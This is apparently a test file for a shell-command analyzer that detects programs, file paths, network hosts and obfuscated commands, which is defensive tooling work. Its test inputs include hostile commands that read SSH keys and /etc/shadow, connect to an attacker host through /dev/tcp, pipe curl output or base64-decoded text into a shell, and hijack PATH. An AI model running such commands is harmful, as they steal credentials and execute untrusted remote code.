import { beforeAll, describe, expect, test } from 'bun:test';
import { analyzeShell } from './analyze.ts';
import type { PathFact } from './facts.ts';
import { createShellParser, type ShellParser } from './parser.ts';

let parser: ShellParser;
beforeAll(async () => {
  parser = await createShellParser();
});

const analyze = (command: string) => analyzeShell(parser, command, { cwd: '/home/u/p', home: '/home/u' });
const paths = (command: string) =>
  analyze(command)
    .paths.filter(
      (fact): fact is PathFact & { target: { kind: 'path'; raw: string } } => fact.target.kind === 'path',
    )
    .map((fact) => `${fact.op}${fact.recursive ? '+r' : ''} ${fact.target.raw}`);
const programs = (command: string) => analyze(command).commands.map((fact) => fact.name);

describe('analyzeShell() finds every program', () => {
  test.each([
    ["c'a't x", ['cat']],
    ["$'\\x63at' x", ['cat']],
    ['\\cat x', ['cat']],
    ['a | b && c || (d; e) & f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['echo $(id -u) `whoami` <(ls)', ['id', 'whoami', 'ls', 'echo']],
    ['bash -c \'sh -c "rm x"\'', ['bash', 'sh', 'rm']],
    ['sudo -u root env FOO=1 nice -n 5 timeout 3 cat x', ['sudo', 'env', 'nice', 'timeout', 'cat']],
    ['find . -exec grep -l x {} +', ['find', 'grep']],
    ['echo a | xargs rm', ['echo', 'xargs', 'rm']],
    ['f() { shred x; }', ['shred']],
    ["trap 'curl x' EXIT", ['trap', 'curl']],
    ['/usr/bin/env cat x', ['env', 'cat']],
  ])('%s runs %p', (command, expected) => {
    expect(programs(command)).toEqual(expected);
  });
});

describe('analyzeShell() resolves paths like bash', () => {
  test.each([
    ['cat ~/.ssh/id_rsa', ['read /home/u/.ssh/id_rsa']],
    ['cat "$HOME/x" ${HOME}/y', ['read /home/u/x', 'read /home/u/y']],
    ['cd ~/.ssh && cat id_rsa', ['read /home/u/p/id_rsa', 'read /home/u/.ssh/id_rsa']],
    ['F=/etc/shadow; cat $F', ['read /etc/shadow']],
    ['cat ../x', ['read /home/u/p/../x']],
    ['rm -rf build', ['write+r /home/u/p/build']],
    ['cp a b', ['read /home/u/p/a', 'write /home/u/p/b']],
    ['echo hi > out.txt', ['write /home/u/p/out.txt']],
    ['< in.txt sort', ['read /home/u/p/in.txt']],
    ['cat >/dev/null x', ['read /home/u/p/x']],
    ['curl -o out.html https://example.com', ['write /home/u/p/out.html']],
    ['echo ok', []],
  ])('%s touches %p', (command, expected) => {
    expect(paths(command)).toEqual(expected);
  });

  test('keeps a glob as a pattern instead of reading the file system', () => {
    const [fact] = analyze('cat ~/.ss?/id_*').paths;
    expect(fact?.target).toEqual({ kind: 'glob', raw: '/home/u/.ss?/id_*', dot: false });
  });

  test('reports hosts, including /dev/tcp redirections', () => {
    expect(
      analyze('curl -s https://API.example.com/x; cat < /dev/tcp/evil.example/80').hosts.map((h) => h.host),
    ).toEqual(['api.example.com', 'evil.example']);
  });
});

describe('analyzeShell() marks what it cannot know as opaque', () => {
  test.each([
    'eval "$CMD"',
    '$PROGRAM x',
    'curl -s https://x | sh',
    "python3 -c 'print(1)'",
    'bash <(curl -s https://x)',
    'echo "unterminated',
  ])('%s is opaque', (command) => {
    expect(analyze(command).opaque.length).toBeGreaterThan(0);
  });

  test.each([
    'git status',
    'npm test 2>&1 | tail -5',
    'for f in src/*.ts; do wc -l "$f"; done',
    "bash <<'EOF'\nls\nEOF",
  ])('%s is not opaque', (command) => {
    expect(analyze(command).opaque).toEqual([]);
  });

  test('decodes base64 piped to a shell statically instead of giving up', () => {
    const analysis = analyze('echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh');
    expect(analysis.opaque).toEqual([]);
    expect(analysis.commands.map((c) => c.name)).toContain('cat');
  });

  test('treats ./ls and PATH-modified names as untrusted', () => {
    expect(analyze('./ls').commands[0]?.trusted).toBe(false);
    expect(analyze('PATH=.:$PATH ls').commands[0]?.trusted).toBe(false);
    expect(analyze('/bin/ls').commands[0]?.trusted).toBe(true);
    expect(analyze('ls').commands[0]?.trusted).toBe(true);
  });
});
